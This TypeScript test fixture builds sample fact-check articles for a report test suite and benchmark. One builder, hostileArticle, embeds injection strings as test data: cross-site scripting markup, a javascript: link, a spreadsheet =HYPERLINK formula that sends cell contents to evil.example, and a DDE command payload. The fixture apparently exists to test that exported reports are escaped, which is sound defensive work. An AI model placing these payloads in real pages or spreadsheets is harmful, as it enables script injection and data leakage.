/** Articles for the report tests and the benchmark; nothing in the app imports this. */
import type { Article, Source, Statement } from '../../domain/schema';
import { blankStatement } from '../../domain/statement';
import { emptySource, VERDICTS, type Verdict } from '../../domain/verdicts';

export const AT = new Date('2026-11-25T10:30:00Z');

export const source = (fields: Partial<Source> = {}): Source => ({ ...emptySource(), ...fields });

/** Builds an article whose statements slice its text exactly, from [text, verdict, extra] rows. */
export function articleOf(
  rows: [text: string, verdict: Verdict, extra?: Partial<Statement> & Record<string, unknown>][],
  meta: Partial<Article> = {},
): Article {
  let text = '';
  const statements: Statement[] = rows.map(([sentence, verdict, extra], i) => {
    if (text) text += ' ';
    const start = text.length;
    text += sentence;
    const checkedAt = verdict === 'unchecked' ? null : AT.toISOString();
    return { ...blankStatement(start, text.length, sentence), id: `s${i + 1}`, verdict, updatedAt: checkedAt, checkedAt, ...extra };
  });
  return {
    id: 'a1',
    title: 'Council budget claims',
    outlet: 'Daily Bugle',
    author: 'Ann Lee',
    url: 'https://bugle.example/budget',
    publishedAt: '2026-11-20',
    text,
    createdAt: AT.toISOString(),
    updatedAt: AT.toISOString(),
    factCheckUrl: '',
    documents: [],
    orphaned: [],
    statements,
    ...meta,
  };
}

/** Everything a hostile article can throw at a report: markup, quotes, CSV and formula syntax, RTL text. */
export function hostileArticle(): Article {
  return articleOf(
    [
      [
        'Mayor <b>Smith</b> says taxes fell 4%.',
        'false',
        {
          sources: [
            source({
              role: 'contradicts',
              quote: 'Taxes rose 2% <img src=x onerror=alert(1)>',
              title: 'City accounts',
              url: 'https://city.example/accounts',
              publisher: 'City Hall',
              publishedAt: '2026-10-01',
            }),
          ],
          note: 'Checked with the finance office.',
          checkedBy: 'Dana "DC" Cohen',
          review: { by: 'Sam <i>Ortiz</i>', at: AT.toISOString() },
        },
      ],
      ['The [budget](javascript:alert(1)) passed.', 'unchecked', { sources: [source({ title: 'Bad link' })] }],
      [
        '=HYPERLINK("http://evil.example/?"&A1,"click"), said the "council", in a statement',
        'misleading',
        { sources: [source({ quote: '+1 555 0100, call now', title: '@council', url: 'https://council.example/a,b' })] },
      ],
      ['-2+3 is what the leaflet said.\nThen a second line, with a comma.', 'verified', { note: '\t=cmd|" /C calc"!A0' }],
      ['ראש העירייה אמר כי המסים ירדו ב-4%.', 'mostly-accurate', { sources: [source({ quote: 'המסים עלו ב-2%', title: 'דו״ח העירייה' })] }],
      ['<script>alert("x")</script> was never said.', 'opinion'],
      ['The turnout figure cannot be confirmed.', 'unverifiable'],
    ],
    {
      title: 'Taxes & <the> "budget" </style><script>alert(1)</script>',
      outlet: 'Daily <i>Bugle</i>',
      author: 'Ann "Nan" Lee',
    },
  );
}

/** An article of `count` statements with every verdict, sources and notes, for the benchmark. */
export function largeArticle(count: number): Article {
  const rows: Parameters<typeof articleOf>[0] = [];
  for (let i = 0; i < count; i++) {
    const verdict = VERDICTS[i % VERDICTS.length]!;
    rows.push([
      `Statement ${i + 1}: the council said spending on item ${i + 1} rose by ${(i * 7) % 100} percent last year, according to the mayor's office.`,
      verdict,
      {
        sources:
          verdict === 'unchecked'
            ? []
            : [
                source({
                  role: i % 2 ? 'contradicts' : 'supports',
                  quote: `Spending on item ${i + 1} changed by ${(i * 3) % 50} percent.`,
                  title: `Budget book, section ${(i % 40) + 1}`,
                  url: `https://city.example/budget/${(i % 40) + 1}`,
                  publisher: 'City Hall',
                  publishedAt: '2026-10-01',
                }),
              ],
        note: i % 5 === 0 ? 'Confirmed with the finance office by phone.' : '',
      },
    ]);
  }
  return articleOf(rows, { title: `A long article of ${count} statements` });
}

/**
 * The desk's decisions on one article (issue 14): a public explanation and an internal note,
 * a signed-off verdict and an unsigned one, an unchecked statement, a quote found with
 * differences in its source file, the same file cited twice, a claimant, a correction.
 */
export function deskArticle(): Article {
  const check = (differences: { quote: string; source: string; kind: 'number' | 'wording' }[]) => ({
    match: 'fuzzy' as const,
    start: 10,
    end: 60,
    passage: 'Nielsen charts show the show in the top ten for three weeks.',
    differences,
    checkedAt: AT.toISOString(),
  });
  const signed = { review: { by: 'Sam Ortiz', at: AT.toISOString() }, checkedBy: 'Dana Cohen' };
  return articleOf(
    [
      ['Nicole Yorkin, the show’s co-creator, spoke to Variety on Monday.', 'unchecked'],
      [
        'The show spent two weeks in the top ten, said Yorkin.',
        'misleading',
        {
          ...signed,
          claimant: 'Nicole Yorkin',
          explanation: 'Nielsen’s charts show three weeks in the top ten (about 4m viewers)!',
          note: 'Nielsen charts show two weeks, not three. Ask the desk whether to correct.',
          sources: [
            source({
              quote: 'in the top ten for two weeks',
              title: 'Nielsen streaming charts',
              file: 'nielsen-charts.pdf',
              documentId: 'doc1',
              check: check([{ quote: 'two', source: 'three', kind: 'number' }]),
            }),
          ],
          history: [{ at: AT.toISOString(), by: 'Dana Cohen', field: 'verdict', before: 'Unchecked', after: 'Misleading' }],
        },
      ],
      [
        'Viewing rose 40% in its second week.',
        'false',
        {
          checkedBy: 'Dana Cohen',
          explanation: 'Viewing fell in the second week.',
          note: 'Waiting for Sam to sign off.',
          sources: [source({ quote: 'viewing fell 5%', title: 'Nielsen charts, week 2', file: 'nielsen-charts.pdf', documentId: 'doc1' })],
        },
      ],
      ['Critics called it the best show of the year.', 'opinion', { explanation: 'A matter of taste.' }],
      [
        'It was filmed in 2019.',
        'verified',
        {
          ...signed,
          explanation: 'The production notes date filming to 2019.',
          corrections: [
            {
              date: '2026-11-27',
              change: 'Rated Verified, not False: filming began in 2019.',
              reason: 'The studio sent the production notes.',
              verdictBefore: 'false',
              verdict: 'verified',
              by: 'Dana Cohen',
              at: '2026-11-27T09:00:00.000Z',
            },
          ],
        },
      ],
    ],
    {
      title: 'Hit & Run will not be getting a second season',
      outlet: 'Daily Bugle',
      author: 'Ann Lee',
      url: 'https://bugle.example/hit-run',
      factCheckUrl: 'https://bugle.example/fact-checks/hit-run',
      documents: [{ id: 'doc1', name: 'nielsen-charts.pdf', kind: 'pdf', url: '', chars: 100, attachedAt: AT.toISOString(), attachedBy: 'Dana Cohen' }],
    },
  );
}
